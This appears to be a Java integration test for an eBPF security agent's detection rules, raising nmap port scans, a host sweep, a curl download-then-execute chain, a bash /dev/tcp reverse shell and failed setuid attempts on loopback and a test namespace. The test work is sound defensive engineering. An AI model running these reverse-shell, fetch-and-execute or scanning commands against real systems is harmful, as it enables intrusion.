package dev.vigil.agent;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.sun.net.httpserver.HttpServer;
import dev.vigil.agent.config.AgentConfig;
import dev.vigil.ebpf.testing.KernelTests;
import java.io.IOException;
import java.io.OutputStream;
import java.io.PrintStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The bundled correlation rules on the real kernel, raised by a real scanner (Debian's nmap, installed if missing),
 * curl, bash and setpriv: connect scans of loopback and of a test host in a network namespace, a scan from that
 * namespace against this host's closed ports, a sweep of a /28 of test hosts, download then execute, a reverse shell
 * and repeated failed setuid; with the near misses that must stay silent. Traffic stays on loopback and the test's
 * own veth pair (198.18.R.0/24, benchmark-test addresses). One agent for the class.
 */
class AgentCorrelationTest {
    static Agent agent;
    static Path dir;
    static Path alerts;
    static String ns;
    static String vethHost;
    static String net; // "198.18.R."

    @BeforeAll
    static void start() throws Exception {
        KernelTests.assumeKernel();
        ensureNmap();
        dir = Files.createTempDirectory("vigilcorr");
        alerts = dir.resolve("alerts.json");
        int r = ThreadLocalRandom.current().nextInt(1, 250);
        String id = Integer.toHexString(ThreadLocalRandom.current().nextInt(0x10000, 0xfffff));
        ns = "vigilcorr-" + id;
        vethHost = "vch" + id;
        String vethNs = "vcn" + id;
        net = "198.18." + r + ".";
        sh("ip netns add " + ns);
        sh("ip link add " + vethHost + " type veth peer name " + vethNs);
        sh("ip link set " + vethNs + " netns " + ns);
        sh("ip addr add " + net + "1/24 dev " + vethHost + " && ip link set " + vethHost + " up");
        StringBuilder hosts = new StringBuilder("ip netns exec " + ns + " sh -c 'ip link set lo up && ip link set " + vethNs + " up"
                + " && ip addr add " + net + "2/24 dev " + vethNs);
        for (int h = 16; h < 32; h++) hosts.append(" && ip addr add ").append(net).append(h).append("/32 dev ").append(vethNs);
        sh(hosts.append("'").toString());
        AgentConfig cfg = AlertFile.agentWritingTo(alerts).override("rule_matching=all").build();
        agent = Agent.start(cfg, new PrintStream(System.err, true));
    }

    @AfterAll
    static void stop() throws Exception {
        if (agent != null) agent.close();
        if (ns != null) {
            run(List.of("ip", "link", "del", vethHost), 10);
            run(List.of("ip", "netns", "del", ns), 10);
        }
        AlertFile.deleteTree(dir);
    }

    static void ensureNmap() throws Exception {
        if (run(List.of("sh", "-c", "command -v nmap"), 10).code == 0) return;
        if (!KernelTests.required()) Assumptions.abort("nmap not installed (VIGIL_REQUIRE_KERNEL=1 installs it)");
        String cmd = "export DEBIAN_FRONTEND=noninteractive; "
                + "apt-get install -y -q -o DPkg::Lock::Timeout=300 --no-install-recommends nmap "
                + "|| { apt-get update -q -o DPkg::Lock::Timeout=300 && "
                + "apt-get install -y -q -o DPkg::Lock::Timeout=300 --no-install-recommends nmap; }";
        Result res = run(List.of("sh", "-c", cmd), 900);
        if (res.code != 0) Assertions.fail("apt-get install nmap failed (" + res.code + "): " + res.out);
    }

    record Result(int code, String out, long pid) {}

    static Result run(List<String> cmd, int timeoutSeconds) throws Exception {
        Process p = new ProcessBuilder(cmd).redirectErrorStream(true).start();
        byte[] out = p.getInputStream().readAllBytes();
        assertThat(p.waitFor(timeoutSeconds, TimeUnit.SECONDS)).as("%s finished", cmd).isTrue();
        return new Result(p.exitValue(), new String(out, StandardCharsets.UTF_8), p.pid());
    }

    static Result sh(String script) throws Exception {
        Result r = run(List.of("sh", "-c", script), 120);
        assertThat(r.code).as("%s: %s", script, r.out).isZero();
        return r;
    }

    static JsonNode await(String rule, java.util.function.Predicate<JsonNode> p) throws Exception {
        return AlertFile.await(alerts, rule, p).path("output_fields");
    }

    static List<JsonNode> alertsOf(String rule) throws IOException {
        List<JsonNode> l = new ArrayList<>();
        for (JsonNode a : AlertFile.read(alerts)) if (a.path("rule").asText().equals(rule)) l.add(a.path("output_fields"));
        return l;
    }

    static String f(JsonNode fields, String name) { return fields.path(name).asText(); }

    static Result nmap(String... args) throws Exception {
        List<String> cmd = new ArrayList<>(List.of("nmap", "-sT", "-Pn", "-n", "--max-retries", "0", "--host-timeout", "20s"));
        cmd.addAll(List.of(args));
        Result r = run(cmd, 120);
        assertThat(r.code).as("nmap %s", r.out).isZero();
        return r;
    }

    @Test
    void nmapConnectScansOfLoopbackAndOfANetnsHostRaiseTheOutboundScan() throws Exception {
        Result lo = nmap("-p", "1-200", "127.0.0.1");
        JsonNode a = await("Outbound Port Scan", x -> f(x, "fd.sip").equals("127.0.0.1") && x.path("proc.pid").asLong() == lo.pid);
        assertThat(f(a, "proc.exepath")).isEqualTo("/usr/bin/nmap");
        assertThat(a.path("corr.count").asLong()).isEqualTo(20);
        assertThat(f(a, "corr.values").split(",")).hasSize(10);
        Result host = nmap("-p", "1-200", net + "2");
        await("Outbound Port Scan", x -> f(x, "fd.sip").equals(net + "2") && x.path("proc.pid").asLong() == host.pid);
        // one alert per key per window: the 200-port scan raised one for its host, not ten
        assertThat(alertsOf("Outbound Port Scan").stream().filter(x -> x.path("proc.pid").asLong() == host.pid)).hasSize(1);
        // /rules lists the correlations beside the rules, with their live state
        JsonNode listed = null;
        for (JsonNode c : new com.fasterxml.jackson.databind.ObjectMapper().readTree(WebServer.rulesJson(agent)).path("correlations")) {
            if (c.path("name").asText().equals("Outbound Port Scan")) listed = c;
        }
        assertThat(listed).as("Outbound Port Scan on /rules").isNotNull();
        assertThat(listed.path("type").asText()).isEqualTo("value_count");
        assertThat(listed.path("window").asText()).isEqualTo("10s");
        assertThat(listed.path("threshold").asInt()).isEqualTo(20);
        assertThat(listed.path("event_types").toString()).contains("connect");
        assertThat(listed.path("defined_at").asText()).startsWith("vigil_correlation_rules.yaml");
        assertThat(listed.path("state").path("alerts").asLong()).isGreaterThanOrEqualTo(2);
        assertThat(listed.path("state").path("keys").asInt()).isGreaterThanOrEqualTo(2);
    }

    @Test
    void anNmapScanFromTheNetnsAgainstClosedPortsRaisesTheInboundScan() throws Exception {
        sh("ip netns exec " + ns + " nmap -sT -Pn -n --max-retries 0 -p 2000-2200 " + net + "1");
        JsonNode a = await("Inbound Port Scan", x -> f(x, "fd.cip").equals(net + "2"));
        assertThat(f(a, "fd.sip")).isEqualTo(net + "1");
        assertThat(a.path("corr.count").asLong()).isEqualTo(20);
        int first = Integer.parseInt(f(a, "corr.values").split(",")[0]);
        assertThat(first).isBetween(2000, 2200);
    }

    @Test
    void aSweepOfASlash28OfTestHostsRaisesTheHostSweep() throws Exception {
        Result r = nmap("-p", "22", net + "16/28");
        JsonNode a = await("Host Sweep", x -> x.path("proc.pid").asLong() == r.pid);
        assertThat(a.path("fd.sport").asLong()).isEqualTo(22);
        assertThat(f(a, "corr.values")).startsWith(net);
        assertThat(alertsOf("Outbound Port Scan").stream().filter(x -> x.path("proc.pid").asLong() == r.pid)).isEmpty();
    }

    @Test
    void manyConnectionsToOnePortOfOneHostStaySilent() throws Exception {
        HttpServer http = server("/", "ok".getBytes());
        try {
            StringBuilder cmd = new StringBuilder("curl -s -o /dev/null -H 'Connection: close'");
            for (int i = 0; i < 40; i++) cmd.append(" http://127.0.0.1:").append(http.getAddress().getPort()).append("/?").append(i);
            Result r = run(List.of("sh", "-c", "exec " + cmd), 60);
            assertThat(r.code).isZero();
            // a later alert of another kind proves the agent had read past the browser's events
            Result marker = nmap("-p", "1-30", "127.0.0.1");
            await("Outbound Port Scan", x -> x.path("proc.pid").asLong() == marker.pid);
            for (String rule : List.of("Outbound Port Scan", "Host Sweep", "Outbound Connection Burst")) {
                assertThat(alertsOf(rule).stream().filter(x -> x.path("proc.pid").asLong() == r.pid)).as(rule).isEmpty();
            }
        } finally {
            http.stop(0);
        }
    }

    @Test
    void curlToTmpChmodAndExecRaisesDownloadThenExecuteWithBothStepsFields() throws Exception {
        HttpServer http = server("/tool", Files.readAllBytes(Path.of("/bin/true")));
        try {
            String url = "http://127.0.0.1:" + http.getAddress().getPort() + "/tool";
            Path tool = dir.resolve("tool");
            Path kept = dir.resolve("kept");
            // the near miss first: downloaded and made executable, never run
            sh("curl -s -o " + kept + " " + url + " && chmod +x " + kept);
            sh("curl -s -o " + tool + " " + url + " && chmod +x " + tool + " && " + tool);
            JsonNode a = await("Download Then Execute", x -> f(x, "run.proc.exepath").equals(tool.toString()));
            assertThat(f(a, "dropped.proc.cmdline")).isEqualTo("curl -s -o " + tool + " " + url);
            assertThat(f(a, "proc.pname")).isEqualTo("sh");
            await("Temporary File Executed", x -> f(x, "run.proc.exepath").equals(tool.toString())
                    && f(x, "written.proc.exepath").equals("/usr/bin/curl"));
            assertThat(alertsOf("Download Then Execute").stream().filter(x -> f(x, "run.proc.exepath").equals(kept.toString()))).isEmpty();
        } finally {
            http.stop(0);
        }
    }

    @Test
    void aReverseShellChainAlertsAndAShellThatOnlyConnectsDoesNot() throws Exception {
        try (ServerSocket listener = new ServerSocket(0, 10, InetAddress.getLoopbackAddress())) {
            Thread attacker = Thread.ofVirtual().start(() -> {
                for (int i = 0; i < 2; i++) {
                    try (Socket s = listener.accept(); OutputStream o = s.getOutputStream()) {
                        o.write("exit\n".getBytes());
                        o.flush();
                        s.getInputStream().readAllBytes();
                    } catch (IOException resetByTheNearMiss) {
                        // the near miss may close before the write (a reset): still serve the shell's connection
                    }
                }
            });
            int port = listener.getLocalPort();
            // the near miss: connects, never puts the socket on stdin/stdout, then a shell
            Result miss = run(List.of("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/" + port + "; exec sh -c true"), 30);
            Result shell = run(List.of("bash", "-c", "exec 0<>/dev/tcp/127.0.0.1/" + port + " 1>&0 2>&0; exec sh -i"), 30);
            attacker.join(10_000);
            JsonNode a = await("Reverse Shell", x -> x.path("proc.pid").asLong() == shell.pid);
            assertThat(f(a, "connected.fd.sip")).isEqualTo("127.0.0.1");
            assertThat(a.path("connected.fd.sport").asLong()).isEqualTo(port);
            assertThat(f(a, "proc.exepath")).endsWith("sh");
            assertThat(f(a, "connected.proc.exepath")).isEqualTo("/usr/bin/bash");
            assertThat(alertsOf("Reverse Shell").stream().filter(x -> x.path("proc.pid").asLong() == miss.pid)).isEmpty();
        }
    }

    @Test
    void repeatedFailedSetuidByOneUserAlerts() throws Exception {
        run(List.of("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "sh", "-c",
                "for i in 1 2 3 4 5 6; do setpriv --reuid=0 true 2>/dev/null; done"), 30);
        JsonNode a = await("Repeated Failed Privilege Escalation", x -> x.path("user.uid").asLong() == 65534);
        assertThat(a.path("corr.count").asLong()).isEqualTo(5);
    }

    static HttpServer server(String path, byte[] body) throws IOException {
        HttpServer s = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 50);
        s.createContext(path, ex -> {
            ex.sendResponseHeaders(200, body.length);
            try (OutputStream o = ex.getResponseBody()) {
                o.write(body);
            }
        });
        s.start();
        return s;
    }
}
